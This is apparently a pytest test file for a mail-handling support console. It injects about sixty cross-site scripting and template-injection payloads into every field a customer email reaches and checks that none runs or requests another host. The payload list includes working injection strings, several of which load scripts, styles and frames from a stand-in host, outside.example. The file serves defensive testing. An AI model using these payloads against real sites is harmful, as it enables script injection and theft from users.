"""Fifty ways to bring a script or a request for another host into a page, in every place that a mail reaches.

Source: RELIABILITY.md, T12; I13.
"""

import base64
import re
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Route
from sqlalchemy import update

from mailbot import operators
from mailbot.demo.mailbox_page import outside
from mailbot.demo.run import SUPPORT, demo_app, work_off
from mailbot.model.book import parse_booked_order
from mailbot.model.people import Role
from mailbot.sandbox.safe_html import sanitised
from mailbot.store import case_views, orders, saved_views, users
from mailbot.store.tables import CaseRow
from mailbot.store.transaction import reading, transaction
from tests.console.reading_pages import read_page
from tests.console.visits import Console, Serve
from tests.understand.writing_pdf import lines_of_text, write_pdf

PAYLOADS = (
    "<script>hit()</script>",
    "<ScRiPt\n>hit()</sCrIpT >",
    "<script src=//outside.example/a.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=//outside.example/b.png>",
    "<img src=`x` onerror=hit()>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "<body onload=hit()>",
    '<iframe src="javascript:parent.hit()"></iframe>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "<iframe src=//outside.example/c></iframe>",
    '<object data="//outside.example/d"></object>',
    "<embed src=//outside.example/e>",
    "<link rel=stylesheet href=//outside.example/f.css>",
    '<style>@import "//outside.example/g.css";</style>',
    "<style>body{background:url(//outside.example/h)}</style>",
    "<base href=//outside.example/><img src=i>",
    '<meta http-equiv=refresh content="0;url=//outside.example/j">',
    "<form action=//outside.example/k><input autofocus onfocus=hit()></form>",
    "<button autofocus onfocus=hit()>x</button>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    '<a href="javascript:hit()" autofocus onfocus=hit()>x</a>',
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<video poster=//outside.example/l></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '" autofocus tabindex=0 onfocus="hit()',
    "' autofocus tabindex=0 onfocus='hit()",
    '"><img src=x onerror="hit()',
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</style></script><script>hit()</script>",
    "</div></section></main></body><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    '<!--<img src="--><img src=x onerror=hit()>',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<template></template><img src=x onerror=hit()>",
    "<<script>hit()//<</script>",
    "{{ 7 * 7 }}{% for x in [1] %}<script>hit()</script>{% endfor %}",
    "{{ cycler.__init__.__globals__ }}${hit()}#{hit()}",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<scr\N{ZERO WIDTH SPACE}ipt>hit()</script><svg/onload=hit()>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>hit()</script>",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}hit()",
    "javascript:hit()",
)
INVOICE = (
    "Invoice",
    "Invoice number: INV-000421",
    "Date: 2026-01-01",
    "Ring 40.00",
    "Shipping 6.00",
    "Total: USD 46.00",
)
WATCH = "window.hits = 0; window.hit = window.alert = () => { window.hits += 1; };"


def encoded(text: str) -> str:
    """A header's word (RFC 2047)."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def a_mail(number: str, payload: str) -> bytes:
    words = f"I changed my mind and want a refund for order {number}. {payload}\r\n> {payload}\r\n\r\n-- \r\n{payload}"
    return "\r\n".join(
        [
            f"From: {encoded(payload)} <jane@example.org>",
            f"To: {SUPPORT}",
            "Authentication-Results: mx.shop.example; dmarc=pass header.from=example.org",
            f"Subject: {encoded(payload)}",
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=b",
            "",
            "--b",
            "Content-Type: multipart/alternative; boundary=a",
            "",
            "--a",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            base64.encodebytes(words.encode()).decode(),
            "--a",
            "Content-Type: text/html; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            base64.encodebytes(f"<p title='{payload}'>{words}</p>{payload}<p>the end</p>".encode()).decode(),
            "--a--",
            "--b",
            "Content-Type: text/html; charset=utf-8",
            f"Content-Disposition: attachment; filename*=utf-8''{quote(payload)}.html",
            "Content-Transfer-Encoding: base64",
            "",
            base64.encodebytes(f"<p hidden>{payload}</p><p>Invoice {number} USD 46.00</p>{payload}".encode()).decode(),
            "--b",
            "Content-Type: application/pdf",
            f"Content-Disposition: attachment; filename*=utf-8''{quote(payload)}.pdf",
            "Content-Transfer-Encoding: base64",
            "",
            base64.encodebytes(write_pdf([lines_of_text([*INVOICE, f"Order number: {number}"])], {})).decode(),
            "--b--",
            "",
        ]
    ).encode()


def an_order(number: str, payload: str) -> dict[str, object]:
    name = "".join(sign for sign in payload if sign.isprintable())
    return {
        "number": number,
        "status": "delivered",
        "paid_at": "2026-01-01T10:00:00Z",
        "delivered_at": "2026-01-06T15:00:00Z",
        "currency": "USD",
        "shipping": "6.00",
        "captured": "46.00",
        "refunded": "0.00",
        "payment_method": "card",
        "dispute_open": False,
        "lines": [{"sku": name, "quantity": 1, "unit_price": "40.00", "discount": "0.00", "tax": "0.00"}],
        "customer": {"name": name, "email": "jane@example.org"},
        "invoice_number": name,
    }


@pytest.fixture(scope="module")
def hostile(served: Serve) -> Iterator[Console]:
    """Cases whose every place holds a payload: one case each."""
    numbers = {f"AW-{10_000 + at}": payload for at, payload in enumerate(PAYLOADS)}
    with demo_app("127.0.0.1:0") as (app, servers):
        with transaction(app.engine) as session:
            entries = [parse_booked_order(an_order(number, payload)) for number, payload in numbers.items()]
            orders.put_all(session, entries, app.now())
        for number, payload in numbers.items():
            servers.deliver(SUPPORT, a_mail(number, payload), app.now())
        assert work_off(app) == ()
        with reading(app.engine) as session:
            cases = sorted(str(case["case"]) for case in case_views.list_cases(session, app.now()))
        for case, payload in zip(cases, PAYLOADS, strict=True):
            operators.note(app, case, payload, payload)
            with transaction(app.engine) as session:
                mine = update(CaseRow).where(CaseRow.id == int(case[3:]))
                session.execute(mine.values(order_number=payload, escalation=payload))
        with transaction(app.engine) as session:
            for at, payload in enumerate(PAYLOADS[::4]):
                saved_views.save(session, "admin@shop.example", payload, f"q=x&view=all&at={at}")
                users.add(session, f"{payload} {at}", Role.VIEWER, app.now())
        with served(app, [outside(servers, app.settings.shop.zone)]) as console:
            yield console


@pytest.fixture(scope="module")
def paths(hostile: Console) -> list[str]:
    """Give every page of it, our letters as the customers see them among them."""
    letters = read_page(hostile.operator().ask("/outside/").text).all("tr")[1:]
    with reading(hostile.app.engine) as session:
        cases = [str(case["case"]) for case in case_views.list_cases(session, hostile.app.now())]
        sent = {case: case_views.letters_of(session, int(case[3:])) for case in cases}
    assert len(cases) == len(PAYLOADS) >= 50
    assert sum(map(len, sent.values())) >= 3
    assert len(letters) >= 5
    return [
        "/",
        "/outside/",
        "/people",
        "/audit",
        "/refunds",
        "/dashboard",
        "/health",
        "/policy",
        "/account",
        "/?view=all&state=escalated&page=2",
        f"/?view=all&q={quote(PAYLOADS[0])}&reason={quote(PAYLOADS[3])}",
        f"/sign-in?token={quote(PAYLOADS[34])}",
        f"/welcome?token={quote(PAYLOADS[34])}",
        f"/templates?name={quote(PAYLOADS[3])}&language={quote(PAYLOADS[7])}",
        *(f"/cases/{case}" for case in cases),
        *(f"/cases/{case}/mails/{int(case[3:])}/html" for case in cases[::2]),
        *(f"/cases/{case}/mails/{int(case[3:])}/parts/3/pages" for case in cases[::4]),
        *(f"/cases/{case}/letters/{letter.id}/html" for case, letters in sent.items() for letter in letters),
        *(f"/cases/{case}/{verb}" for case in cases[::8] for verb in ("reply", "correct", "change", "assign", "merge")),
        *(f"/cases/{case}/{verb}" for case in cases[::24] for verb in ("decline", "ask", "note", "close", "snooze")),
        f"/cases/{cases[0]}/note?text={quote(PAYLOADS[38])}",
        f"/cases/{cases[0]}/change?reason={quote(PAYLOADS[34])}",
        *(f"/cases/{quote(payload, safe='')}" for payload in PAYLOADS[::16]),
        *(f"/templates?name=received&language=en&case={case}" for case in cases[::16]),
        f"/cases/{cases[0]}/reply?text={quote(PAYLOADS[38])}",
        *(f"/outside/{at + 1}" for at in range(len(letters))),
    ]


def watched(browser: Browser, address: str, *, without_policy: bool) -> tuple[BrowserContext, list[str]]:
    """A browser that counts scripts that run, and notes and stops requests for other hosts."""
    context = browser.new_context(bypass_csp=without_policy)
    context.set_default_timeout(10_000)
    context.add_init_script(WATCH)
    outside_asked: list[str] = []

    def pass_on(route: Route) -> None:
        if urlsplit(route.request.url).netloc == urlsplit(address).netloc:
            route.continue_()
        else:
            outside_asked.append(route.request.url)
            route.abort()

    context.route("**/*", pass_on)
    return context, outside_asked


def test_every_payload_reaches_every_place(hostile: Console, paths: list[str]) -> None:
    operator, missing = hostile.operator(), []
    for path in (path for path in paths if re.fullmatch(r"/cases/RF-\d+", path)):
        page = read_page(operator.ask(path).text)
        places = {
            "subject": page.all("p", "subject")[0].words,
            "name": page.all("p", "from")[0].words,
            "body": page.all("div", "mail")[0].text,
            "history": page.under("History").words,
            "order number": page.all("dl", "glance")[0].words,
        }
        marks = ("hit()", "outside.example", "{{")
        missing += [(path, place) for place, text in places.items() if not any(mark in text for mark in marks)]
    assert missing == []


@pytest.mark.parametrize("without_policy", [False, True], ids=["with its policy", "without its policy"])
def test_no_payload_runs_or_asks_for_another_host(
    without_policy: bool,  # noqa: FBT001 (pytest gives it)
    hostile: Console,
    paths: list[str],
    chromium: Browser,
) -> None:
    context, outside_asked = watched(chromium, hostile.address, without_policy=without_policy)
    name, _, value = (hostile.operator().cookie or "").partition("=")
    context.add_cookies([{"name": name, "value": value, "url": hostile.address}])
    page, ran = context.new_page(), []
    for path in paths:
        page.goto(hostile.address + path)
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        hits = sum(frame.evaluate("window.hits ?? 0") for frame in page.frames)
        if hits or (page.url != hostile.address + path and not path.startswith(("/sign-in", "/welcome"))):
            ran.append((path, hits, page.url))
    for payload in PAYLOADS[::12]:
        page.goto(f"{hostile.address}/playground")
        page.locator("textarea").fill(a_mail("AW-10000", payload).decode())
        page.get_by_role("button", name="Try it").click()
        page.locator(".decision").wait_for()
        if page.evaluate("window.hits"):
            ran.append(("/playground", payload, page.url))
    context.close()
    assert (ran, outside_asked) == ([], [])


def test_a_payload_as_a_file_s_name_is_no_more_than_a_name(hostile: Console) -> None:
    """Where the file is named: on the page of the case, above its pages, and in the header of its download."""
    operator, drawn = hostile.operator(), 0
    for number in range(1, len(PAYLOADS) + 1):
        case = read_page(operator.ask(f"/cases/RF-{number:06d}").text)
        name = next(one.text for one in case.all("bdi") if one.text.endswith(".pdf"))
        part = f"/cases/RF-{number:06d}/mails/{number}/parts/3"
        pages = read_page(operator.ask(f"{part}/pages").text)
        assert pages.all("h1")[0].all("bdi")[0].text == name
        assert [one.attributes["alt"] for one in pages.all("img")] == [f"Page 1 of {name}"]
        answer = operator.ask(part)
        assert re.fullmatch(r"attachment; filename\*=UTF-8''[\w.~%-]+", answer.headers["content-disposition"], re.ASCII)
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert answer.headers["x-content-type-options"] == "nosniff"
        drawn += any(mark in name for mark in ("hit()", "outside.example", "{{"))
    assert drawn > len(PAYLOADS) * 0.8


def test_html_of_a_mail_keeps_nothing_that_acts_or_asks(hostile: Console) -> None:
    operator, kept = hostile.operator(), 0
    for number in range(1, len(PAYLOADS) + 1):
        answer = operator.ask(f"/cases/RF-{number:06d}/mails/{number}/html")
        assert answer.status == 200
        assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'; img-src data:;")
        body = answer.text.partition("</title>")[2].lower()
        assert not re.search(
            r"<(script|img|svg|math|style|form|input|iframe|object|embed|link|base|meta|video)\b", body
        )
        assert not re.search(r"<[^>]*\s(on\w+|href|src|style|action)\s*=", body)
        kept += "the end" in body
    assert kept > len(PAYLOADS) * 0.8


def test_html_that_is_too_deep_is_not_sanitised_but_left_out() -> None:
    assert "too deep" in sanitised("<b>" * 201 + "x" + "</b>" * 201)
    assert "too deep" in sanitised("<i></i>" * 10_001)
    assert "<b>x</b>" in sanitised("<b>x</b>" * 100)


def test_the_payloads_would_run_on_a_page_that_did_not_escape_them(hostile: Console, chromium: Browser) -> None:
    context, outside_asked = watched(chromium, hostile.address, without_policy=True)
    ran = 0
    for payload in PAYLOADS:
        page = context.new_page()  # of its own, for some payloads lead theirs away
        page.goto(hostile.address + "/sign-in")
        page.set_content(f'<!doctype html><title>x</title><main><p title="{payload}">{payload}</p></main>')
        page.wait_for_timeout(20)
        try:
            ran += bool(page.evaluate("window.hits"))
        except Error:
            ran += 1  # led away, as by ``http-equiv=refresh``
        page.close()
    context.close()
    assert ran >= 30
    assert len({urlsplit(url).path for url in outside_asked}) >= 10
